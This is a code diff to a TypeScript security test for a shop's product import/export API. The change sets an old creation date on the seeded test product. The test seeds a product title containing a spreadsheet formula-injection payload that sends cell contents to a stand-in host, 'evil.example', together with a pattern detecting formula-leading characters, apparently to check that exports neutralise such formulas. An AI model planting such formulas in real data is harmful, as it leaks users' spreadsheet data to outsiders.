@@ -13,6 +13,9 @@ import { MAX_IMPORT_BYTES, productImportResponse } from '@/lib/contract/exports'
 import { adminToken, call, closeDb, expectErrorShape, registerCustomer, sql, SHOP_URL } from './helpers';
 import { expectShape } from '../api/helpers';
 
+// Older than every seeded product: tests elsewhere that take the newest product (with its images) never get this bare one.
+const OLDER_THAN_THE_CATALOGUE = new Date('2020-01-01T00:00:00Z');
+
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 const FORMULA_START = /^[=+\-@\t\r]/;
 
@@ -32,10 +35,10 @@ beforeAll(async () => {
   owner = { authorization: `Bearer ${await adminToken()}` };
   const marker = randomBytes(4).toString('hex');
   const title = `${HYPERLINK} ${marker}`;
-  const [row] = await sql<{ id: string }>(`INSERT INTO "Product" (id, title, "priceCents", "updatedAt") VALUES ($1, $2, 900, now()) RETURNING id`, [
-    `sec${randomBytes(8).toString('hex')}`,
-    title,
-  ]);
+  const [row] = await sql<{ id: string }>(
+    `INSERT INTO "Product" (id, title, "priceCents", "createdAt", "updatedAt") VALUES ($1, $2, 900, $3, now()) RETURNING id`,
+    [`sec${randomBytes(8).toString('hex')}`, title, OLDER_THAN_THE_CATALOGUE],
+  );
   product = { id: row.id, title };
 });
 
